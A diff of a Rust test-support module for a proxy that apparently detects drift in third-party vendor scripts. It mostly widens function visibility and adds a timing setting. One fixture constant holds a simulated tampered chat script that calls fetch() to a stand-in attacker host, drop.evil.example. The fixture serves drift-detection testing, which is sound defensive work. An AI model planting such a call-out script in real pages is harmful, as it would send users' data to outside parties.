@@ -15,18 +15,18 @@ use crate::browser::eventually;
 use crate::policy::vendor::Vendor;
 use crate::support::{Client, Enforced, Upstream, enforce_with, get, get_with, page};
 
-pub(super) const NEW: &str = "window.chat={open:function(){fetch('https://drop.evil.example/')}};";
+pub(crate) const NEW: &str = "window.chat={open:function(){fetch('https://drop.evil.example/')}};";
 
 /// What a vendor serves, changeable.
 #[derive(Clone)]
-struct Served(Arc<Mutex<&'static str>>);
+pub(crate) struct Served(Arc<Mutex<&'static str>>);
 
 impl Served {
-    fn new(body: &'static str) -> Self {
+    pub(crate) fn new(body: &'static str) -> Self {
         Self(Arc::new(Mutex::new(body)))
     }
 
-    fn set(&self, body: &'static str) {
+    pub(crate) fn set(&self, body: &'static str) {
         *self.0.lock().unwrap() = body;
     }
 
@@ -35,7 +35,7 @@ impl Served {
     }
 
     /// Served to everybody; empty stands for "not found".
-    fn vendor(&self) -> Vendor {
+    pub(crate) fn vendor(&self) -> Vendor {
         let served = self.clone();
         Vendor::serving(move |_, stream| match served.body() {
             "" => send(stream, "404 Not Found", ""),
@@ -50,7 +50,7 @@ fn watching(upstream: &Upstream, vendor: &Vendor, more: &str) -> Enforced {
 }
 
 /// The same, with other settings.
-pub(super) fn watching_with(
+pub(crate) fn watching_with(
     upstream: &Upstream,
     vendor: &Vendor,
     more: &str,
@@ -65,6 +65,7 @@ pub(super) fn watching_with(
         approve(&folder, CHAT);
         config.drift = Some(DriftConfig {
             interval: Duration::from_millis(20),
+            blind_after: Duration::from_hours(1),
             folder: Some(folder.join("review")),
             allow_private: true,
             patience: Duration::from_secs(20),
@@ -89,18 +90,18 @@ fn approve(folder: &std::path::Path, code: &str) {
     .unwrap();
 }
 
-pub(super) async fn stands(proxy: &Enforced, drift: &str) -> DriftRow {
+pub(crate) async fn stands(proxy: &Enforced, drift: &str) -> DriftRow {
     let row = || proxy.running.store.drifts().into_iter().find(|row| row.drift == drift);
     eventually(&format!("chat to be {drift}"), async || row()).await
 }
 
 /// Waits until this many more looks were made.
-pub(super) async fn looks(vendor: &Vendor, count: usize) {
+pub(crate) async fn looks(vendor: &Vendor, count: usize) {
     let wanted = vendor.requests().len() + count * 6;
     eventually("more looks", async || (vendor.requests().len() >= wanted).then_some(())).await;
 }
 
-fn told(proxy: &Enforced, kind: EventKind) -> Vec<String> {
+pub(crate) fn told(proxy: &Enforced, kind: EventKind) -> Vec<String> {
     let events = proxy.running.store.events(1000).into_iter();
     events.filter(|event| event.kind == kind).map(|event| event.message).collect()
 }
